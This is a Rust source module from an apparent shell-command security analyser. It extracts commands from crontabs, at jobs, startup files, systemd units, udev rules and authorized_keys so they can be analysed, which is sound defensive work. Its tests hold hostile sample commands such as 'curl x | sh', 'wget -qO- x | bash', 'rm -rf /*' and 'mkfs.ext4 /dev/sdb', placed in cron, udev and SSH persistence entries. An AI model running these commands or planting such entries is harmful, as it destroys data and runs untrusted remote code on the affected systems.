//! Code written now to run later: what a crontab, a cron file, an `at` job, a shell startup file,
//! a systemd unit, a udev rule or an authorized key's `command=` receives, taken out of its
//! format and analysed as shell code, so a cron line whose command is critical is critical now.

use super::Inner;
use crate::ir::{echoed, piped_text, Analysis, Command, Stdin, Via, Word};

/// How a file that runs code later holds it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Format {
    /// Cron lines; `user` when each has a user field (`/etc/crontab`, `/etc/cron.d/*`).
    Cron { user: bool },
    /// The whole text is shell code (startup files, `cron.daily` scripts, `rc.local`).
    Script,
    /// `ExecStart=` and the other `Exec*=` lines of a systemd unit.
    Unit,
    /// `RUN+="…"` and `PROGRAM="…"` of a udev rule.
    Udev,
    /// `command="…"` options of authorized keys.
    AuthorizedKeys,
}

/// What `cmd` schedules or writes into a file that runs it later, as shell code.
pub(super) fn persisted(cmd: &Command, analysis: &Analysis) -> Vec<Inner> {
    let mut out = Vec::new();
    let base = cmd.base().unwrap_or_default();
    match base {
        "crontab" if takes_stdin_table(cmd) => {
            if let Some(text) = stdin_text(&cmd.stdin, analysis) {
                out.extend(code("crontab", Format::Cron { user: false }, &text));
            }
        }
        "at" | "batch" if !cmd.short_flags().contains(['l', 'd', 'r', 'c', 'f']) => {
            if let Some(text) = stdin_text(&cmd.stdin, analysis) {
                out.extend(code("at job", Format::Script, &text));
            }
        }
        "tee" => {
            let formats: Vec<Format> = cmd
                .operands()
                .into_iter()
                .filter_map(|w| format_of(&path_text(w)))
                .collect();
            if let (Some(format), Some(text)) = (formats.first(), stdin_text(&cmd.stdin, analysis))
            {
                out.extend(code("file written by tee", *format, &text));
            }
        }
        _ => {}
    }
    let redirected = cmd
        .redirects
        .iter()
        .filter(|r| r.writes())
        .find_map(|r| format_of(&path_text(&r.target)));
    if let (Some(format), Some(text)) = (redirected, echoed(cmd)) {
        out.extend(code("file written by redirection", format, &text));
    }
    out
}

/// `crontab -` or a bare `crontab` with a table on stdin (not `-l`, `-r`, `-e` or a file).
fn takes_stdin_table(cmd: &Command) -> bool {
    let operands = cmd.operands();
    !cmd.short_flags().contains(['l', 'r', 'e'])
        && operands
            .iter()
            .all(|w| w.value() == Some("-") || w.value().is_none_or(|v| v.is_empty()))
        && !matches!(cmd.stdin, Stdin::Inherited)
}

/// The text a command reads on stdin when it is known: a heredoc, a here-string, or the
/// `echo`/`printf` output of the stage before it (a `( crontab -l; echo … )` group included:
/// the known lines are kept, the rest is what was there before).
fn stdin_text(stdin: &Stdin, analysis: &Analysis) -> Option<String> {
    match stdin {
        Stdin::Heredoc { text, .. } => text.clone(),
        Stdin::HereString(w) => w.value().map(|v| format!("{v}\n")),
        Stdin::Pipe { pipeline, stage } => piped_text(stdin, analysis).or_else(|| {
            let previous = analysis
                .pipelines
                .get(*pipeline)?
                .stages
                .get(stage.checked_sub(1)?)?;
            let known: String = previous
                .iter()
                .filter_map(|&i| analysis.commands.get(i))
                .filter_map(echoed)
                .collect();
            (!known.is_empty()).then_some(known)
        }),
        _ => None,
    }
}

/// A word as a path for matching: its value, else what it shows (`$HOME/.bashrc`).
fn path_text(w: &Word) -> String {
    w.value().map_or_else(|| w.shown.clone(), str::to_string)
}

fn format_of(path: &str) -> Option<Format> {
    let name = path.rsplit('/').next().unwrap_or(path);
    let under = |dir: &str| path.starts_with(dir);
    if path == "/etc/crontab" || under("/etc/cron.d/") {
        return Some(Format::Cron { user: true });
    }
    if under("/var/spool/cron/") {
        return Some(Format::Cron { user: false });
    }
    if ["hourly", "daily", "weekly", "monthly"]
        .iter()
        .any(|p| under(&format!("/etc/cron.{p}/")))
        || matches!(
            path,
            "/etc/rc.local"
                | "/etc/profile"
                | "/etc/bash.bashrc"
                | "/etc/bashrc"
                | "/etc/ssh/sshrc"
        )
        || [
            "/etc/profile.d/",
            "/etc/zsh/",
            "/etc/init.d/",
            "/etc/update-motd.d/",
        ]
        .iter()
        .any(|d| under(d))
        || matches!(
            name,
            ".bashrc"
                | ".bash_profile"
                | ".bash_login"
                | ".bash_logout"
                | ".profile"
                | ".zshrc"
                | ".zprofile"
                | ".zshenv"
                | ".zlogin"
                | ".kshrc"
                | ".xinitrc"
                | ".xsessionrc"
        )
        || path.ends_with("/.ssh/rc")
    {
        return Some(Format::Script);
    }
    if path.contains("/systemd/")
        && [".service", ".timer", ".socket", ".path"]
            .iter()
            .any(|s| name.ends_with(s))
    {
        return Some(Format::Unit);
    }
    if path.contains("/udev/rules.d/") {
        return Some(Format::Udev);
    }
    if matches!(name, "authorized_keys" | "authorized_keys2") {
        return Some(Format::AuthorizedKeys);
    }
    None
}

/// The shell code in `text` of `format`, as one script for the analysis.
fn code(what: &str, format: Format, text: &str) -> Option<Inner> {
    let lines: Vec<String> = match format {
        Format::Script => vec![text.to_string()],
        Format::Cron { user } => text.lines().filter_map(|l| cron_command(l, user)).collect(),
        Format::Unit => text
            .lines()
            .filter_map(|l| {
                let (key, value) = l.trim().split_once('=')?;
                key.trim().starts_with("Exec").then(|| {
                    value
                        .trim_start_matches(['-', '@', ':', '+', '!'])
                        .to_string()
                })
            })
            .collect(),
        Format::Udev => text
            .lines()
            .flat_map(|l| quoted_values(l, &["RUN+=", "RUN=", "PROGRAM="]))
            .collect(),
        Format::AuthorizedKeys => text
            .lines()
            .flat_map(|l| quoted_values(l, &["command="]))
            .collect(),
    };
    let script = lines.join("\n");
    (!script.trim().is_empty()).then(|| Inner::Script {
        via: Via::Shell(what.to_string()),
        raw: script.clone(),
        text: Some(script),
        substitutions: Vec::new(),
        positional: None,
        same_shell: false,
        template: None,
    })
}

/// The command of one cron line: after five time fields (or an `@reboot`-style one) and, in a
/// system table, the user; `None` for a comment, a blank line or a variable setting.
fn cron_command(line: &str, user: bool) -> Option<String> {
    let line = line.trim();
    if line.is_empty() || line.starts_with('#') {
        return None;
    }
    let setting = line.split_once('=').is_some_and(|(name, _)| {
        let name = name.trim();
        !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    });
    if setting {
        return None;
    }
    let fields = if line.starts_with('@') { 1 } else { 5 } + usize::from(user);
    let mut rest = line;
    for _ in 0..fields {
        rest = rest.trim_start();
        let end = rest.find(char::is_whitespace)?;
        rest = &rest[end..];
    }
    // cron ends the command at the first unescaped `%` and feeds the rest to it as lines of
    // stdin (`sh%rm -rf /` runs the rm): both are read as code, `\%` is a percent sign.
    let mut command = String::new();
    let mut chars = rest.trim().chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\\' if chars.peek() == Some(&'%') => {
                command.push('%');
                chars.next();
            }
            '%' => command.push('\n'),
            c => command.push(c),
        }
    }
    (!command.trim().is_empty()).then_some(command)
}

/// The values of `key"…"` in `line` (`RUN+="/bin/sh -c 'x'"`), `\"` unescaped.
fn quoted_values(line: &str, keys: &[&str]) -> Vec<String> {
    let mut out = Vec::new();
    for key in keys {
        let mut rest = line;
        while let Some(at) = rest.find(key) {
            rest = &rest[at + key.len()..];
            let Some(body) = rest.strip_prefix('"') else {
                continue;
            };
            let mut value = String::new();
            let mut chars = body.char_indices();
            let mut end = body.len();
            while let Some((i, c)) = chars.next() {
                match c {
                    '\\' => value.extend(chars.next().map(|(_, c)| c)),
                    '"' => {
                        end = i + 1;
                        break;
                    }
                    c => value.push(c),
                }
            }
            out.push(value);
            rest = &body[end.min(body.len())..];
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cron_lines() {
        for (line, user, want) in [
            ("* * * * * /bin/backup.sh", false, Some("/bin/backup.sh")),
            ("*/5 * * * * root curl x | sh", true, Some("curl x | sh")),
            (
                "@reboot wget -qO- x | bash",
                false,
                Some("wget -qO- x | bash"),
            ),
            (
                "@reboot root mkfs.ext4 /dev/sdb",
                true,
                Some("mkfs.ext4 /dev/sdb"),
            ),
            ("* * * * * rm -rf /*%", false, Some("rm -rf /*\n")),
            (
                "0 1 * * * date +\\%F >> log",
                false,
                Some("date +%F >> log"),
            ),
            ("SHELL=/bin/bash", false, None),
            ("# m h dom mon dow command", false, None),
            ("", false, None),
        ] {
            assert_eq!(cron_command(line, user).as_deref(), want, "{line}");
        }
    }

    #[test]
    fn formats() {
        for (path, want) in [
            ("/etc/crontab", Some(Format::Cron { user: true })),
            ("/etc/cron.d/sysupdate", Some(Format::Cron { user: true })),
            (
                "/var/spool/cron/crontabs/root",
                Some(Format::Cron { user: false }),
            ),
            ("/etc/cron.daily/cleanup", Some(Format::Script)),
            ("~/.bashrc", Some(Format::Script)),
            ("$HOME/.zshrc", Some(Format::Script)),
            ("/etc/profile.d/zz.sh", Some(Format::Script)),
            ("/etc/systemd/system/x.service", Some(Format::Unit)),
            ("/etc/udev/rules.d/99-usb.rules", Some(Format::Udev)),
            ("/root/.ssh/authorized_keys", Some(Format::AuthorizedKeys)),
            ("/tmp/notes.txt", None),
            ("./bashrc.example", None),
        ] {
            assert_eq!(format_of(path), want, "{path}");
        }
    }

    #[test]
    fn quoted() {
        assert_eq!(
            quoted_values(
                r#"ACTION=="add", RUN+="/bin/sh -c 'curl x | sh'""#,
                &["RUN+="]
            ),
            vec!["/bin/sh -c 'curl x | sh'".to_string()]
        );
        assert_eq!(
            quoted_values(
                r#"command="curl -s \"x\" | sh",no-pty ssh-rsa AAA"#,
                &["command="]
            ),
            vec![r#"curl -s "x" | sh"#.to_string()]
        );
    }
}
